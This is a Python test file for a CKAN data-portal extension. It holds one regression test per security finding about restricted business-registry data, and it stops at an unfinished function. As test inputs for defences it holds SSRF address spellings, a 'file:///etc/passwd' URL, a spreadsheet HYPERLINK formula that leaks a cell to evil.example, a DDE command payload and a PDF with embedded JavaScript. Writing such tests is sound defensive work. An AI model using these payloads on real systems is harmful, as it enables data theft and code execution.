"""Hardening of restricted data (issue 12): one regression test per finding,
each named after it. The world is test_restricted_access's: a national BNBA
table, Kota Bandung's standing grant, and the four kinds of reader."""

from __future__ import annotations

import base64
import csv
import datetime
import http.server
import io
import json
import os
import socket
import subprocess
import sys
import threading
import tracemalloc
import uuid
from collections.abc import Iterator

import pyotp
import pytest
import requests
import sqlalchemy as sa
from ckan import model
from ckan.logic import NotAuthorized, ValidationError
from ckan.tests import factories, helpers
from ckanext.umkm import caller, egress
from ckanext.umkm.access import confidentiality, two_factor
from ckanext.umkm.audit import checkpoints, refusals
from ckanext.umkm.audit import export as audit_export
from ckanext.umkm.audit import log as audit_log
from werkzeug.datastructures import FileStorage

from . import metadata_records as records
from . import test_release_checks as release_checks_tests
from . import test_restricted_access as restricted
from . import two_factor_steps as steps
from .conftest import ROOT
from .test_ui import PASSWORD

pytestmark = pytest.mark.usefixtures("clean_portal_db", "clean_index", "reference_codes")

world = restricted.world
checks_world = release_checks_tests.world
call = restricted.call
ALIAS = f"bnba_alias_uji_{uuid.uuid4().hex[:8]}"  # the DataStore outlives the test database resets
CKAN = [os.path.join(os.path.dirname(sys.executable), "ckan"), "-c", os.path.join(ROOT, "config", "test.ini")]


def _alias(w: dict) -> str:
    helpers.call_action("datastore_create", context={"user": w["admin"]["name"]},
                        resource_id=w["resource"]["id"], force=True, aliases=[ALIAS])
    return ALIAS


def _chain_length() -> int:
    return model.Session.execute(sa.select(sa.func.count()).select_from(audit_log.chain_table)).scalar()


class Listener:
    """A local HTTP server standing for an internal endpoint: it records
    every request it gets (and may redirect)."""

    def __init__(self, redirect_to: str | None = None) -> None:
        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
                hits.append(self.path)
                if redirect_to:
                    self.send_response(302)
                    self.send_header("Location", redirect_to)
                    self.end_headers()
                    return
                body = b"kode,jumlah\nRAHASIA-INTERNAL,1\n"
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/solr/ckan/select?q=*:*"

    def close(self) -> None:
        self.server.shutdown()


@pytest.fixture()
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


# --- 1. DataStore aliases -------------------------------------------------------

def test_01_datastore_aliases_go_through_the_gate(world, live_portal):
    alias = _alias(world)
    for who in ("anonymous", "outsider", "no_nda"):
        with pytest.raises(NotAuthorized):
            call(restricted._reader(world, who), "datastore_search", resource_id=alias)
        with pytest.raises(NotAuthorized):
            call(restricted._reader(world, who), "datastore_info", id=alias)
    # Through the alias the agency gets exactly its rows, logged against the table.
    rows = call(world["bandung"], "datastore_search", resource_id=alias)["records"]
    assert {r["nama_usaha"] for r in rows} == restricted.BANDUNG
    _, events = audit_log.search(action="data_delivered")
    assert events[0]["action_object_id"] == world["resource"]["id"]
    with pytest.raises((NotAuthorized, ValidationError)):
        call(world["bandung"], "datastore_search_sql", sql=f'SELECT * FROM "{alias}"')
    # Over HTTP, without logging in: the API and the dump.
    api = requests.get(f"{live_portal}/api/3/action/datastore_search", params={"resource_id": alias}, timeout=30)
    assert api.status_code == 403 and "Roti" not in api.text
    dump = requests.get(f"{live_portal}/datastore/dump/{alias}", timeout=30)
    assert dump.status_code in (403, 404) and "Roti" not in dump.text
    token = steps.token(live_portal, steps.login(live_portal, world["bandung"], steps.enrol(world["bandung"])),
                        world["bandung"])
    dumped = requests.get(f"{live_portal}/datastore/dump/{alias}", headers={"Authorization": token}, timeout=30)
    assert dumped.status_code == 200
    got = {r["nama_usaha"] for r in csv.DictReader(io.StringIO(dumped.content.decode("utf-8-sig")))}
    assert got == restricted.BANDUNG


# --- 2. resource_search -------------------------------------------------------------

def test_02_resource_search_neither_shows_nor_confirms_outside_links(world):
    secret = "https://simpan.example.go.id/internal/bnba-2024.csv"
    pkg = helpers.call_action("package_create", context={"user": world["producer"]["name"]}, **records.dataset(
        world["pkg"]["owner_org"], name="bnba-tautan-cari", accessRights="terbatas", bentuk_data="BNBA",
        resources=[{"url": secret, "format": "CSV", "name": "Tautan BNBA"}]))
    records.release(pkg["id"])
    for who in restricted.READERS:
        user = restricted._reader(world, who)
        by_name = call(user, "resource_search", query="name:Tautan BNBA")
        assert by_name["count"] == 1 and secret not in json.dumps(by_name)
        assert by_name["results"][0]["url"].endswith(f"/resource/{pkg['resources'][0]['id']}/download")
        for query in ("url:simpan.example", "url:internal/bnba", ["url:https", "name:Tautan"]):
            found = call(user, "resource_search", query=query)
            assert found == {"count": 0, "results": []}, (who, query)
    # Its producer, who maintains the link, finds and sees it (server-side call).
    mine = call(world["producer"], "resource_search", query="url:simpan.example")
    assert mine["count"] == 1 and mine["results"][0]["url"] == secret
    # Open data is searched as before.
    open_pkg = helpers.call_action("package_create", context={"user": world["producer"]["name"]},
                                   **records.dataset(world["pkg"]["owner_org"], name="data-terbuka-cari",
                                                     resources=[{"url": "https://data.example.go.id/umkm.csv",
                                                                 "format": "CSV", "name": "Terbuka"}]))
    records.release(open_pkg["id"])
    assert call(None, "resource_search", query="url:data.example.go.id")["count"] == 1


# --- 3. the loader's service token ----------------------------------------------

def test_03_the_loader_reads_restricted_uploads_with_the_service_token(world, live_portal):
    made = subprocess.run([*CKAN, "umkm", "service-token"], capture_output=True, text=True, timeout=120)
    assert made.returncode == 0, made.stderr[-2000:]
    token = made.stdout.strip().splitlines()[-1]
    check = subprocess.run([*CKAN, "umkm", "service-token", "--check", token], capture_output=True, timeout=120)
    assert check.returncode == 0
    url = f"{live_portal}/dataset/{world['pkg']['name']}/resource/{world['resource']['id']}/download/bnba.csv"
    # What xloader does: the whole upload, with the service token.
    got = requests.get(url, headers={"Authorization": token}, timeout=30)
    assert got.status_code == 200 and all(r["nama_usaha"] in got.text for r in restricted.ROWS)
    # A sysadmin's own token (made outside a two-step login) is no service token.
    admin_token = helpers.call_action("api_token_create", context={"user": world["admin"]["name"]},
                                      user=world["admin"]["name"], name="uji")["token"]
    assert subprocess.run([*CKAN, "umkm", "service-token", "--check", admin_token], timeout=120).returncode == 1
    assert requests.get(url, headers={"Authorization": admin_token}, timeout=30).status_code == 403
    # Nor is a token a sysadmin makes for the site user over HTTP.
    site = helpers.call_action("get_site_user", context={"ignore_auth": True})
    admin = factories.Sysadmin(password=PASSWORD)
    session = steps.login(live_portal, admin, steps.enrol(admin))
    page = session.get(f"{live_portal}/dashboard/datasets", timeout=30).text
    made = session.post(f"{live_portal}/api/3/action/api_token_create", json={"user": site["name"], "name": "x"},
                        headers={"X-CSRFToken": steps.csrf(page)}, timeout=30).json()["result"]["token"]
    assert requests.get(url, headers={"Authorization": made}, timeout=30).status_code == 403


@pytest.mark.ckan_config("ckanext.umkm.service_addresses", "10.1.2.0/24")
def test_03_a_service_token_counts_only_from_the_service_addresses(world, app):
    from ckan.lib import api_token

    site = helpers.call_action("get_site_user", context={"ignore_auth": True})
    token = helpers.call_action("api_token_create", context={"ignore_auth": True, "user": site["name"]},
                                user=site["name"], name="layanan")["token"]
    assert api_token.decode(token).get(two_factor.SERVICE_CLAIM)
    url = f"/dataset/{world['pkg']['name']}/resource/{world['resource']['id']}/download/bnba.csv"
    assert app.get(url, headers={"Authorization": token}, environ_base={"REMOTE_ADDR": "127.0.0.1"}).status_code == 403
    ok = app.get(url, headers={"Authorization": token}, environ_base={"REMOTE_ADDR": "10.1.2.7"})
    assert ok.status_code == 200 and "Roti Cileunyi" in ok.get_data(as_text=True)


# --- 4. the egress guard of the release checks ----------------------------------

@pytest.mark.parametrize("host", ["127.0.0.1", "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "localhost",
                                  "[::1]", "[::ffff:127.0.0.1]", "169.254.169.254", "10.0.0.1", "100.64.0.1",
                                  "192.168.1.1", "[fd00::1]", "0.0.0.0", "224.0.0.1", "[64:ff9b::7f00:1]"])
def test_04_internal_addresses_in_any_spelling_are_refused(host):
    with pytest.raises(egress.Refused):
        egress.check(f"http://{host}:8983/solr/ckan/select")


def test_04_other_schemes_and_credentials_are_refused():
    for url in ("file:///etc/passwd", "ftp://example.org/x", "gopher://x", "http://user:pw@example.org/",
                "http://[::1", ""):
        with pytest.raises(egress.Refused):
            egress.check(url)


def test_04_release_checks_do_not_fetch_internal_urls(checks_world, listener):
    pkg = helpers.call_action("package_create", context={"user": checks_world["producer"]["name"]},
                              **records.dataset(checks_world["org"]["id"], name="tautan-internal",
                                                kegiatan=[checks_world["kegiatan"]["id"]],
                                                variabel=checks_world["variabel"], analisis="Analisis.",
                                                resources=[{"url": listener.url, "format": "CSV",
                                                            "name": "Internal"}]))
    checks = release_checks_tests.submit_and_pass(checks_world, pkg)
    assert listener.hits == []
    text = json.dumps(checks)
    assert "RAHASIA-INTERNAL" not in text and "(127.0.0.1)" in text
    assert checks["disclosure"]["not_checked"]


def test_04_a_redirect_to_an_internal_address_is_refused(listener, monkeypatch):
    from ckan.common import config

    front = Listener(redirect_to=listener.url)
    try:
        # The first host is admitted (a partner inside the network); where it
        # redirects to is checked again.
        monkeypatch.setitem(config, "ckanext.umkm.egress.allowed_hosts", "127.0.0.1/32")
        with egress.fetch(f"http://127.0.0.1:{front.port}/x", max_bytes=1000) as reply:
            assert reply.status == 200  # the listener itself, both admitted
        monkeypatch.setitem(config, "ckanext.umkm.egress.allowed_hosts", "localhost")
        with pytest.raises(egress.Refused):
            with egress.fetch(f"http://localhost:{front.port}/x", max_bytes=1000):
                pass
        assert len(front.hits) == 2 and len(listener.hits) == 1
    finally:
        front.close()


def test_04_the_checked_address_is_the_one_connected_to(listener, monkeypatch):
    """DNS rebinding: the host is resolved once per request, and the
    connection goes to that address."""
    from ckan.common import config

    monkeypatch.setitem(config, "ckanext.umkm.egress.allowed_hosts", "umkm-mitra.test")
    answers = []
    real = socket.getaddrinfo

    def getaddrinfo(host, *args, **kw):
        if host == "umkm-mitra.test":
            answers.append(host)
            return real("127.0.0.1", *args, **kw)
        return real(host, *args, **kw)

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    with egress.fetch(f"http://umkm-mitra.test:{listener.port}/data.csv", max_bytes=1000) as reply:
        assert b"RAHASIA-INTERNAL" in reply.read()
    assert answers == ["umkm-mitra.test"] and listener.hits == ["/data.csv"]


def test_04_size_is_bounded(listener, monkeypatch):
    from ckan.common import config

    monkeypatch.setitem(config, "ckanext.umkm.egress.allowed_hosts", "127.0.0.1")
    with pytest.raises(egress.Refused, match="MB"):
        with egress.fetch(listener.url, max_bytes=10) as reply:
            reply.read()


# --- 5. the client's address ------------------------------------------------------

def test_05_x_forwarded_for_is_not_believed_without_a_trusted_proxy(world, live_portal):
    url = f"{live_portal}/dataset/{world['pkg']['name']}/resource/{world['resource']['id']}/download"
    token = steps.token(live_portal, steps.login(live_portal, world["bandung"], steps.enrol(world["bandung"])),
                        world["bandung"])
    assert requests.get(url, headers={"Authorization": token, "X-Forwarded-For": "203.0.113.9"},
                        timeout=30).status_code == 200
    requests.get(url, headers={"X-Forwarded-For": "203.0.113.10"}, timeout=30)
    (delivered,) = [e for e in audit_log.search(action="data_delivered")[1] if e["payload"]["path"] == "download"]
    assert delivered["payload"]["ip"] == "127.0.0.1"
    _, refused = refusals.search()
    assert refused[0]["clients"] == ["127.0.0.1"]


@pytest.mark.ckan_config("ckanext.umkm.trusted_proxies", "1")
def test_05_one_trusted_proxy_gives_its_client(world, app):
    """Behind one proxy the client is the address that proxy added last; the
    ones before it are the client's own words."""
    url = f"/dataset/{world['pkg']['name']}/resource/{world['resource']['id']}/download"
    assert app.get(url, headers={"X-Forwarded-For": "198.51.100.1, 203.0.113.7"},
                   environ_base={"REMOTE_ADDR": "10.0.0.2"}).status_code == 403
    _, refused = refusals.search()
    assert refused[0]["clients"] == ["203.0.113.7"]
    with app.flask_app.test_request_context(environ_base={"REMOTE_ADDR": "10.0.0.2"}):
        assert caller.client_ip() == "10.0.0.2"


# --- 6. formula injection ---------------------------------------------------------

def test_06_the_log_book_runs_no_formula(world, tmp_path):
    hostile = "=HYPERLINK(\"http://evil.example/\"&A1,\"klik\")"
    call(world["no_nda"], "umkm_nda_sign", **dict(restricted.SIGNER, full_name=hostile, position="+cmd|' /C calc'!A0"))
    out = io.BytesIO()
    audit_export.write(out, "csv")
    text = out.getvalue().decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert any(cell.startswith("'" + hostile) for cell in cells)
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    from openpyxl import load_workbook

    book = io.BytesIO()
    audit_export.write(book, "xlsx")
    sheet = load_workbook(io.BytesIO(book.getvalue())).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" for c in cells)


# --- 7. refusals cannot be flooded into the chain ------------------------------------

def test_07_refusals_are_counted_not_chained(world, live_portal):
    before = _chain_length()
    url = f"{live_portal}/dataset/{world['pkg']['name']}/resource/{world['resource']['id']}/download"
    with requests.Session() as s:
        for _ in range(120):
            assert s.get(url, timeout=30).status_code == 403
    assert _chain_length() == before
    total, rows = refusals.search()
    assert total == 1 and rows[0]["count"] == 120 and rows[0]["reason"] == "anonymous"
    # A delivery is still chained.
    call(world["bandung"], "datastore_search", resource_id=world["resource"]["id"])
    assert _chain_length() == before + 1
    listing = call(world["walidata"], "umkm_audit_refusal_list")
    assert listing["count"] == 1 and listing["results"][0]["count"] == 120


# --- 8. sysadmins and the second factor -----------------------------------------------

def test_08_sysadmins_need_the_second_factor_to_manage_access(world, live_portal):
    admin = factories.Sysadmin(password=PASSWORD)
    password_only, _ = steps.password_step(live_portal, admin)
    page = password_only.get(f"{live_portal}/dashboard/datasets", timeout=30).text
    headers = {"X-CSRFToken": steps.csrf(page)}
    for action, body in (("umkm_access_grant_create", {"organization_id": world["bandung_org"]["id"],
                                                        "purpose": "x", "valid_until": restricted.NEXT_YEAR}),
                         ("umkm_audit_list", {}), ("umkm_mfa_disable", {"id": world["bandung"]["id"]})):
        reply = password_only.post(f"{live_portal}/api/3/action/{action}", json=body, headers=headers, timeout=30)
        assert reply.status_code == 403, (action, reply.text)
    assert password_only.get(f"{live_portal}/akses/izin", timeout=30).url.endswith("/akun/verifikasi-dua-langkah")
    # With two-step login the same sysadmin may.
    secret = steps.enrol(admin)
    session = steps.login(live_portal, admin, secret)
    page = session.get(f"{live_portal}/dashboard/datasets", timeout=30).text
    reply = session.post(f"{live_portal}/api/3/action/umkm_audit_list", json={},
                         headers={"X-CSRFToken": steps.csrf(page)}, timeout=30)
    assert reply.status_code == 200


# --- 9. keys of the two-step login secrets ---------------------------------------------

def test_09_secrets_have_keys_of_their_own_and_rotate(empty_access_tables, monkeypatch):
    from ckan.common import config

    user = factories.User(password=PASSWORD)
    secret = steps.enrol(user)
    # Rotating SECRET_KEY leaves two-step login alone.
    monkeypatch.setitem(config, "SECRET_KEY", "a-new-secret-key")
    assert two_factor.verify(user["id"], steps.fresh_code(secret, user)) == "totp"
    # A new key in front, rekey, the old one dropped: still readable.
    old = config["ckanext.umkm.mfa.encryption_keys"]
    monkeypatch.setitem(config, two_factor.KEYS_SETTING, f"kunci-baru-uji {old}")
    done, _unreadable = two_factor.rekey()
    assert done >= 1
    monkeypatch.setitem(config, two_factor.KEYS_SETTING, "kunci-baru-uji")
    assert two_factor.verify(user["id"], steps.fresh_code(secret, user)) == "totp"
    # Without the key nothing reads it.
    monkeypatch.setitem(config, two_factor.KEYS_SETTING, "kunci-lain")
    with pytest.raises(two_factor.CodeRefused, match="unreadable"):
        two_factor.verify(user["id"], steps.fresh_code(secret, user))


def test_09_an_enrolment_under_the_old_secret_key_is_moved_to_the_new_key(empty_access_tables):
    user = factories.User(password=PASSWORD)
    secret = pyotp.random_base32()
    legacy = two_factor._legacy().encrypt(secret.encode()).decode()
    model.Session.execute(two_factor.table.insert().values(
        user_id=user["id"], secret=legacy, confirmed_at=datetime.datetime.now(datetime.UTC), last_step=0,
        recovery="[]", created=datetime.datetime.now(datetime.UTC)))
    model.Session.commit()
    assert two_factor.verify(user["id"], steps.fresh_code(secret, user)) == "totp"
    stored = model.Session.execute(sa.select(two_factor.table.c.secret).where(
        two_factor.table.c.user_id == user["id"])).scalar()
    assert stored != legacy and two_factor._fernet().decrypt(stored.encode()).decode() == secret


def test_09_recovery_codes_are_salted_slow_hashes(empty_access_tables):
    user = factories.User(password=PASSWORD)
    setup = helpers.call_action("umkm_mfa_setup", context={"user": user["name"]})
    codes = helpers.call_action("umkm_mfa_confirm", context={"user": user["name"]}, password=PASSWORD,
                                code=steps.fresh_code(setup["secret"], user))["recovery_codes"]
    stored = json.loads(model.Session.execute(sa.select(two_factor.table.c.recovery).where(
        two_factor.table.c.user_id == user["id"])).scalar())
    assert len(stored) == 10 and all(h.startswith("$pbkdf2-sha512$") for h in stored)
    assert len(set(h.split("$")[3] for h in stored)) == 10  # a salt of its own each
    assert two_factor.verify(user["id"], codes[3]) == "recovery"
    with pytest.raises(two_factor.CodeRefused):
        two_factor.verify(user["id"], codes[3])


# --- 10. signed checkpoints ---------------------------------------------------------------

def _rewrite_chain_from(seq: int) -> None:
    """What the owner of the tables can do: lift the trigger, edit an event
    and recompute every link from it on."""
    model.Session.execute(sa.text("ALTER TABLE umkm_audit_chain DISABLE TRIGGER USER"))
    rows = model.Session.execute(sa.select(audit_log.chain_table).order_by(audit_log.chain_table.c.seq)).all()
    e = audit_log.EventModel.__table__
    prev = audit_log.GENESIS
    for row in rows:
        if row.seq == seq:
            model.Session.execute(sa.text(
                "UPDATE event_audit_event SET payload = jsonb_set(payload, '{rows}', '999') WHERE id = :id"),
                {"id": row.event_id})
        event = dict(model.Session.execute(sa.select(e).where(e.c.id == row.event_id)).mappings().one())
        digest = audit_log.link_hash(prev, event)
        model.Session.execute(audit_log.chain_table.update().where(audit_log.chain_table.c.seq == row.seq).values(
            prev_hash=prev, hash=digest))
        prev = digest
    model.Session.execute(sa.text("ALTER TABLE umkm_audit_chain ENABLE TRIGGER USER"))
    model.Session.commit()


def _fresh_checkpoints() -> None:
    path = checkpoints.checkpoint_file()
    if os.path.exists(path):
        os.remove(path)


def test_10_checkpoints_reveal_a_rewritten_chain(world):
    _fresh_checkpoints()
    for _ in range(3):
        call(world["bandung"], "datastore_search", resource_id=world["resource"]["id"])
    entry = checkpoints.write()
    assert entry and checkpoints.write() is None  # nothing new since
    assert audit_log.verify().ok
    first = model.Session.execute(sa.select(sa.func.min(audit_log.chain_table.c.seq))).scalar()
    _rewrite_chain_from(first + 2)
    result = audit_log.verify()
    # The chain alone looks intact; the checkpoint does not.
    assert not result.ok and any("rewritten" in p for p in result.problems), result.problems
    run = subprocess.run([*CKAN, "umkm", "audit", "verify"], capture_output=True, text=True, timeout=120)
    assert run.returncode == 1 and "rewritten" in run.stderr


def test_10_checkpoints_reveal_a_truncated_chain_and_forged_checkpoints(world):
    _fresh_checkpoints()
    call(world["bandung"], "datastore_search", resource_id=world["resource"]["id"])
    checkpoints.write()
    model.Session.execute(sa.text("ALTER TABLE umkm_audit_chain DISABLE TRIGGER USER"))
    last = model.Session.execute(sa.select(sa.func.max(audit_log.chain_table.c.seq))).scalar()
    model.Session.execute(audit_log.chain_table.delete().where(audit_log.chain_table.c.seq == last))
    model.Session.execute(sa.text("ALTER TABLE umkm_audit_chain ENABLE TRIGGER USER"))
    model.Session.commit()
    problems = audit_log.verify().problems
    assert any("truncated" in p for p in problems), problems
    # A checkpoint written without the key does not count.
    entries = checkpoints.read()
    forged = dict(entries[-1], seq=1, hash="0" * 64)
    with open(checkpoints.checkpoint_file(), "a", encoding="utf-8") as f:
        f.write(json.dumps(forged) + "\n")
    assert any("signature" in p for p in audit_log.verify().problems)


def test_10_the_checkpoint_command_and_the_log_book(world, tmp_path):
    _fresh_checkpoints()
    call(world["bandung"], "datastore_search", resource_id=world["resource"]["id"])
    run = subprocess.run([*CKAN, "umkm", "audit", "checkpoint"], capture_output=True, text=True, timeout=120)
    assert run.returncode == 0 and "signed by key" in run.stdout
    key = tk_config("ckanext.umkm.audit.checkpoint_key")
    assert oct(os.stat(key).st_mode & 0o777) == "0o600"
    from openpyxl import load_workbook

    book = io.BytesIO()
    audit_export.write(book, "xlsx")
    sheets = load_workbook(io.BytesIO(book.getvalue()))
    assert len(sheets.worksheets) == 4
    marks = list(sheets.worksheets[2].iter_rows(values_only=True))
    assert len(marks) == 2 and marks[1][5]  # the header and one signed checkpoint


def tk_config(key: str) -> str:
    from ckan.common import config

    return config[key]


# --- 11. uploaded signed statements --------------------------------------------------

def _pdf(pages: int = 1, script: bool = False, password: str | None = None) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    if script:
        from pypdf.generic import DictionaryObject, NameObject, TextStringObject

        action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                                   NameObject("/JS"): TextStringObject("app.alert('x');")})
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    if password:
        writer.encrypt(password)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.mark.parametrize("kind", ["not really a PDF", "11 pages", "a script", "a password", "6 MB", "a GIF"])
def test_11_only_real_plain_pdfs_are_accepted(world, kind):
    data = {"not really a PDF": lambda: b"%PDF-1.4\n% not really a PDF\n", "11 pages": lambda: _pdf(pages=11),
            "a script": lambda: _pdf(script=True), "a password": lambda: _pdf(password="rahasia"),
            "6 MB": lambda: b"%PDF-1.4" + b"0" * (6 * 1024 * 1024), "a GIF": lambda: b"GIF89a"}[kind]()
    problem = confidentiality.check_pdf(data)
    assert problem
    with pytest.raises(ValidationError) as err:
        call(world["no_nda"], "umkm_nda_sign", signed_pdf=base64.b64encode(data).decode(), **restricted.SIGNER)
    assert err.value.error_dict["signed_pdf"] == [problem]
    assert confidentiality.signatures(world["no_nda"]["id"]) == []


def test_11_only_walidata_opens_an_uploaded_statement(world, live_portal):
    data = _pdf(pages=2)
    signed = call(world["no_nda"], "umkm_nda_sign", signed_pdf=base64.b64encode(data).decode(), **restricted.SIGNER)
    url = f"{live_portal}/akses/pernyataan/{signed['id']}/berkas.pdf"
    assert requests.get(url, timeout=30, allow_redirects=False).status_code in (302, 403)
    for who in ("no_nda", "bandung"):
        token = steps.token(live_portal, steps.login(live_portal, world[who], steps.enrol(world[who])), world[who])
        assert requests.get(url, headers={"Authorization": token}, timeout=30).status_code == 403
    walidata = steps.login(live_portal, world["walidata"], steps.enrol(world["walidata"]))
    page = walidata.get(f"{live_portal}/akses/izin", timeout=30)
    assert f"/akses/pernyataan/{signed['id']}/berkas.pdf" in page.text
    got = walidata.get(url, timeout=30)
    assert got.status_code == 200 and got.content == data
    assert got.headers["Content-Type"] == "application/pdf" and got.headers["X-Content-Type-Options"] == "nosniff"
    assert any(e["action"] == "nda_view" for e in audit_log.search()[1])


# --- 12. a disclosure check that examined nothing -------------------------------------

def test_12_a_disclosure_check_that_examined_nothing_is_not_a_pass(checks_world):
    unreadable = release_checks_tests.dataset(checks_world, "kode,jumlah\n", fmt="XLSX", filename="rusak.xlsx")
    pdf_only = release_checks_tests.dataset(checks_world, "%PDF-1.4 laporan", fmt="PDF", filename="laporan.pdf")
    no_counts = release_checks_tests.dataset(checks_world, release_checks_tests.GOOD_CSV,
                                             variabel=[checks_world["variabel"][0]])
    for pkg, why in ((unreadable, "rusak.xlsx"), (pdf_only, "laporan.pdf"), (no_counts, "")):
        checks = release_checks_tests.submit_and_pass(checks_world, pkg)
        disclosure = checks["disclosure"]
        assert not disclosure["passed"] and disclosure["not_checked"] and disclosure["problems"], disclosure
        assert why in " ".join(disclosure["problems"])
        with pytest.raises(ValidationError, match="disclosure"):
            call(checks_world["forum"], "umkm_release_approve", id=pkg["id"])


# --- 13. publishing a new version ----------------------------------------------------

def _released_with_file(w: dict) -> dict:
    pkg = release_checks_tests.dataset(w, release_checks_tests.GOOD_CSV)
    helpers.call_action("resource_create", context={"user": w["producer"]["name"]}, package_id=pkg["id"],
                        name="Tautan", url="https://data.example.go.id/umkm.csv", format="CSV")
    records.release(pkg["id"])
    return helpers.call_action("package_show", id=pkg["id"])


def test_13_a_new_version_keeps_resource_ids_and_urls(checks_world):
    w = checks_world
    public = _released_with_file(w)
    before = [(r["id"], r["url"]) for r in public["resources"]]
    copy = call(w["producer"], "umkm_release_revise", id=public["id"])
    new_csv = release_checks_tests.GOOD_CSV.replace("1204", "1210")
    upload = copy["resources"][0]
    call(w["producer"], "resource_patch", id=upload["id"], description="Angka diperbaiki",
         upload=FileStorage(stream=io.BytesIO(new_csv.encode()), filename="umkm.csv"))
    records.release(copy["id"])
    after = helpers.call_action("package_show", id=public["id"])
    assert [(r["id"], r["url"]) for r in after["resources"]] == before
    assert after["resources"][0]["description"] == "Angka diperbaiki"
    from ckan.lib import uploader

    path = uploader.get_resource_uploader(after["resources"][0]).get_path(after["resources"][0]["id"])
    assert open(path).read() == new_csv and not os.path.exists(path + ".umkm-release")
    assert after["resources"][0]["umkm_integrity"] == "ok"
    assert model.Package.get(copy["id"]).state == "deleted" and model.Package.get(copy["id"]).private


def test_13_a_failed_release_of_a_new_version_changes_nothing(checks_world, monkeypatch):
    w = checks_world
    public = _released_with_file(w)
    copy = call(w["producer"], "umkm_release_revise", id=public["id"])
    call(w["producer"], "package_patch", id=copy["id"], title="Judul versi baru")
    from ckanext.umkm.release import versions

    real = versions.tk.get_action

    def failing(name):
        if name == "package_delete":
            def boom(context, data_dict):
                raise RuntimeError("disk full")
            return boom
        return real(name)

    monkeypatch.setattr(versions.tk, "get_action", failing)
    with pytest.raises(RuntimeError):
        records.release(copy["id"])
    monkeypatch.undo()
    model.Session.remove()
    shown = helpers.call_action("package_show", id=public["id"])
    assert shown["title"] == public["title"] and [r["id"] for r in shown["resources"]] == [
        r["id"] for r in public["resources"]]
    copy_now = model.Package.get(copy["id"])
    assert copy_now.private and copy_now.state == "active"
    anonymous = call(None, "package_search", q=f"name:{copy['name']}")
    assert anonymous["count"] == 0
    from ckan.lib import uploader

    stored = uploader.get_resource_uploader(shown["resources"][0]).get_path(shown["resources"][0]["id"])
    assert not os.path.exists(stored + ".umkm-release")


# --- 14. streamed downloads --------------------------------------------------------

def test_14_downloads_are_streamed_not_held_in_memory(world, app):
    big = "kode_desa,kbli,nama_usaha,nik\n" + "32.73.01.1001,10710,Roti Sukarasa,3273010101800001\n" * 140_000
    helpers.call_action("resource_patch", context={"user": world["admin"]["name"]}, id=world["resource"]["id"],
                        upload=FileStorage(stream=io.BytesIO(big.encode()), filename="bnba.csv"))
    url = f"/dataset/{world['pkg']['name']}/resource/{world['resource']['id']}/download/bnba.csv"
    site = helpers.call_action("get_site_user", context={"ignore_auth": True})["name"]
    token = helpers.call_action("api_token_create", context={"ignore_auth": True, "user": site}, user=site,
                                name="layanan")["token"]
    tracemalloc.start()
    try:
        reply = app.get(url, headers={"Authorization": token}, environ_base={"REMOTE_ADDR": "127.0.0.1"},
                        buffered=False)
        size = sum(len(chunk) for chunk in reply.response)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert reply.status_code == 200 and size == len(big.encode())
    assert peak < len(big) / 4, f"peak {peak} bytes for a {len(big)}-byte file"


# --- 15. the log book counts and reads right ------------------------------------------

def test_15_a_dump_is_one_entry_with_its_real_row_count(world, live_portal):
    token = steps.token(live_portal, steps.login(live_portal, world["bandung"], steps.enrol(world["bandung"])),
                        world["bandung"])
    before = _chain_length()
    for fmt in ("csv", "json", "tsv", "xml"):
        dumped = requests.get(f"{live_portal}/datastore/dump/{world['resource']['id']}", params={"format": fmt},
                              headers={"Authorization": token}, timeout=30)
        assert dumped.status_code == 200
    _, events = audit_log.search(action="data_delivered")
    dumps = [e for e in events if e["payload"]["path"] == "dump"]
    assert _chain_length() == before + 4 and len(dumps) == 4
    assert {e["payload"]["rows"] for e in dumps} == {2}
    assert all(e["payload"]["ip"] == "127.0.0.1" for e in dumps)


def test_15_the_log_book_reads_as_words(world, live_portal):
    steps.token(live_portal, steps.login(live_portal, world["bandung"], steps.enrol(world["bandung"])),
                world["bandung"])
    call(world["bandung"], "datastore_search", resource_id=world["resource"]["id"])
    requests.get(f"{live_portal}/dataset/{world['pkg']['name']}/resource/{world['resource']['id']}/download",
                 timeout=30)
    from openpyxl import load_workbook

    book = io.BytesIO()
    audit_export.write(book, "xlsx")
    workbook = load_workbook(io.BytesIO(book.getvalue()))
    text = json.dumps([[c for c in row] for sheet in workbook.worksheets for row in sheet.iter_rows(values_only=True)],
                      default=str)
    for raw in ("mfa_enabled", "data_delivered", "grant_create", '"nda"', '"anonymous"', "None", world["pkg"]["id"]):
        assert raw not in text, raw
    assert "Data BNBA UMKM Nasional 2024 (bnba-umkm-nasional-2024)" in text
    refused = [row for row in workbook.worksheets[1].iter_rows(values_only=True)][1:]
    assert refused and refused[0][1] in ("(anonim)", "(anonymous)")


# --- the layout and the replaced views --------------------------------------------

def test_download_views_are_the_gates(app):
    """CKAN offers no download extension point: every URL rule that serves a
    resource download or a DataStore dump must reach the gate's view."""
    flask_app = app.flask_app
    rules = [r for r in flask_app.url_map.iter_rules()
             if r.endpoint.endswith("resource.download") or r.endpoint == "datastore.dump"]
    assert len(rules) >= 5
    for rule in rules:
        assert getattr(flask_app.view_functions[rule.endpoint], "umkm_gate", False), rule.rule


def test_the_top_level_holds_no_domain_logic():
